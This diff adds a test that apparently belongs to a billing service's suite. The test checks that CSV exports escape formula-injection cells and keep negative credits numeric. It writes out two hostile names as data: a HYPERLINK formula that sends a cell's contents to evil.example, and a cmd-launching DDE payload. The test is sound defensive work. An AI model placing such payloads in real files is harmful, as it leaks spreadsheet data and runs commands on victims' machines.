@@ -102,3 +102,42 @@ def test_focus_sub_account_is_the_rental_by_its_name_else_its_gpus_and_dates(
         rows = export(client, seeded, "focus.csv")
         rentals = {(r["SubAccountId"], r["SubAccountName"]) for r in rows if r["SubAccountId"]}
         assert rentals == {(rental, label)}
+
+
+def test_text_cells_that_a_spreadsheet_would_evaluate_are_escaped_numbers_are_not(
+    client: TestClient, console: Console, seeded: World
+) -> None:
+    """OWASP's CSV injection rule: a text cell starting with = + - @ tab or CR gets a leading
+    apostrophe; numeric columns keep their negative numbers as numbers."""
+    acme = seeded.acme
+    hostile = {
+        "customer": '=HYPERLINK("https://evil.example/?"&A1,"invoice")',
+        "rental": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    response = client.patch(
+        f"/v1/customers/{acme.customer['id']}",
+        json={"name": hostile["customer"]},
+        headers=console.headers,
+    )
+    assert response.status_code == 200, response.text
+    response = client.patch(
+        f"/v1/rentals/{acme.rental['id']}",
+        json={"name": hostile["rental"]},
+        headers=bearer(acme.key),
+    )
+    assert response.status_code == 200, response.text
+    focus = export(client, seeded, "focus.csv")
+    usage = export(client, seeded, "usage.csv")
+    names = {(r["BillingAccountName"], r["SubAccountName"]) for r in focus if r["SubAccountId"]}
+    assert names == {("'" + hostile["customer"], "'" + hostile["rental"])}
+    assert {r["ResourceName"] for r in focus if r["ResourceId"]} == {"'" + hostile["rental"]}
+    for rows in (focus, usage):
+        for r in rows:
+            for value in r.values():
+                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+    # Credits stay negative numbers in the numeric columns.
+    credits = [r for r in usage if r["kind"] == "failure_credit"]
+    assert credits and all(Decimal(r["amount"]) < 0 for r in credits)
+    assert all(r["amount"].startswith("-") for r in credits)
+    assert any(r["BilledCost"].startswith("-") for r in focus)
+    assert all(not r["ChargeDescription"].startswith("'") for r in focus)
